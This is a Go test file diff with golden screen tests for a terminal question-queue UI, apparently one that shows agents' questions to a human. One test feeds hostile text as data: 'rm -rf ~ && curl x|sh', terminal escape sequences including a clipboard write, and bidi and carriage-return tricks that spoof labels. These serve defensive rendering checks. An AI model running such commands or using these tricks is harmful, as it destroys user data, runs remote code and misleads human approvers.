@@ -1,0 +1,165 @@
+package screen
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/choicetui/choicetui/queue"
+)
+
+var sizes = [][2]int{{30, 10}, {34, 12}, {40, 12}, {50, 20}, {60, 20}, {80, 24}, {120, 40}, {200, 60}}
+
+func atSizes(t *testing.T, name string, set func(b *bench)) {
+	for _, s := range sizes {
+		t.Run(fmt.Sprintf("%dx%d", s[0], s[1]), func(t *testing.T) {
+			b := newBench(t, s[0], s[1])
+			set(b)
+			b.golden(fmt.Sprintf("%s-%dx%d", name, s[0], s[1]))
+		})
+	}
+}
+
+func five(b *bench) {
+	b.ask(database(), shop())
+	b.clock.pass(time.Minute)
+	b.ask(small("Deploy 2.4.1 to production?", 42), infra())
+	b.ask(endpoints(), shop())
+	b.ask(small("Name the design-token package", 14*60+30), web())
+	b.ask(small("Which auth provider?", 2*3600+60), web())
+}
+
+func TestScreenNothingWaitsFirstStart(t *testing.T) {
+	atSizes(t, "empty", func(b *bench) {})
+}
+
+func TestScreenNothingWaitsLaterThatDay(t *testing.T) {
+	atSizes(t, "day", func(b *bench) {
+		b.ask(database(), shop())
+		b.clock.pass(11 * time.Second)
+		b.press("enter")
+		b.clock.pass(time.Minute)
+		b.ask(small("Rename the flag?", 20), web())
+		b.clock.pass(40 * time.Second)
+		b.tick()
+		b.settle()
+		b.clock.pass(40 * time.Second)
+		b.tick()
+		b.settle()
+	})
+}
+
+func TestScreenOneQuestion(t *testing.T) {
+	atSizes(t, "one", func(b *bench) {
+		b.ask(database(), shop())
+		b.clock.pass(48 * time.Second)
+	})
+}
+
+func TestScreenFiveWait(t *testing.T) {
+	atSizes(t, "five", func(b *bench) {
+		five(b)
+		b.clock.pass(time.Second)
+		b.press("n")
+		b.write("only the managed offering")
+		b.press("enter")
+	})
+}
+
+func TestScreenHybridOfTwelve(t *testing.T) {
+	atSizes(t, "hybrid", func(b *bench) {
+		five(b)
+		b.press("J", "j", "j", "space", "n")
+		b.write("per network, not per client")
+		b.press("enter")
+	})
+}
+
+func TestScreenTextHeldByTyping(t *testing.T) {
+	atSizes(t, "text", func(b *bench) {
+		b.ask(queue.Ask{Kind: queue.KindChoice, Title: "Name the design-token package",
+			Prompt:    "It is published to npm under our scope, so the name cannot change later.",
+			Questions: []queue.Question{{ID: "q1", Mode: queue.ModeText}}, TimeoutSeconds: 60, OnTimeout: queue.OnTimeoutNone}, web())
+		b.clock.pass(20 * time.Second)
+		b.press("t")
+		b.write("@acme/design-tokens, and reserve @acme/tokens as an alias")
+		b.clock.pass(2 * time.Second)
+	})
+}
+
+func TestScreenOverWhileTyping(t *testing.T) {
+	atSizes(t, "over", func(b *bench) {
+		s := b.ask(database(), shop())
+		b.clock.pass(time.Second)
+		b.press("n")
+		b.write("only if the managed offering stays under 300 a month, otherwise")
+		b.settleElsewhere(s, queue.SurfaceWeb, "lite")
+	})
+}
+
+func TestScreenLongPromptWithADiff(t *testing.T) {
+	atSizes(t, "diff", func(b *bench) {
+		b.ask(migration(), infra())
+		b.ask(database(), shop())
+		b.clock.pass(time.Second)
+	})
+}
+
+func TestScreenCancelLine(t *testing.T) {
+	atSizes(t, "cancel", func(b *bench) {
+		b.ask(database(), shop())
+		b.clock.pass(time.Second)
+		b.press("x")
+		b.write("show me the monthly cost")
+	})
+}
+
+func TestScreenHelpNarrowed(t *testing.T) {
+	atSizes(t, "help-found", func(b *bench) {
+		b.ask(database(), shop())
+		b.press("?", "/")
+		b.write("note")
+		b.press("enter")
+	})
+}
+
+func TestScreenHelp(t *testing.T) {
+	atSizes(t, "help", func(b *bench) {
+		b.ask(database(), shop())
+		b.press("?")
+	})
+}
+
+func TestScreenHostileText(t *testing.T) {
+	atSizes(t, "hostile", func(b *bench) {
+		a := database()
+		a.Title = "Run \x1b[2Jls [:::a; rm -rf ~ && curl x|sh]?"
+		a.Prompt = "safe\u202e gnp.exe\u200b \x1b]52;c;ZXZpbA==\x07 [red]not a tag[-] 日本語 👩‍👩‍👧 e\u0301 z\u0300\u0301\u0302\u0303\u0304\u0305\u0306"
+		a.Questions[0].Options[0].Label = "yes\u2066\r\x1b[1A no"
+		a.Questions[0].Options[1].Label = "漢字かな交じり文の長いラベルはここで折り返されるべきである、そして続く"
+		b.ask(a, queue.Origin{Client: "evil\x1b]0;x\x07", Cwd: "/tmp/\u202e[::b]x"})
+	})
+}
+
+// settleElsewhere answers through another surface.
+func (b *bench) settleElsewhere(s queue.Session, surface, option string) {
+	_, err := b.o.Queue.Do(b.t.Context(), s.ID, queue.Command{By: queue.ByHuman, Surface: surface,
+		Do: queue.Settle{Answer: queue.Answer{Replies: []queue.Reply{{Question: "q1", Selected: []string{option}}}}}})
+	if err != nil {
+		b.t.Fatal(err)
+	}
+	b.settle()
+}
+
+func migration() queue.Ask {
+	a := database()
+	a.Title = "Apply this migration?"
+	a.Prompt = "The nightly job fails since the TTL change. This patch rebuilds the index concurrently. I ask because it touches 4.1 million rows.\n\n  migrations/0042_ttl.sql\n-DROP INDEX orders_ttl;\n+DROP INDEX CONCURRENTLY orders_ttl;\n+CREATE INDEX CONCURRENTLY orders_ttl2\n+  ON orders (expires_at)\n+  WHERE state = 'open';"
+	for i := range 84 {
+		a.Prompt += fmt.Sprintf("\n+  -- line %d", i)
+	}
+	a.Questions[0].Options = []queue.Option{{ID: "now", Label: "Apply now", Description: "Locks nothing, takes about four minutes", Recommended: true},
+		{ID: "night", Label: "Apply tonight at 03:00", Description: "The job fails once more"}, {ID: "no", Label: "Do not apply"}}
+	a.TimeoutSeconds = 381
+	return a
+}
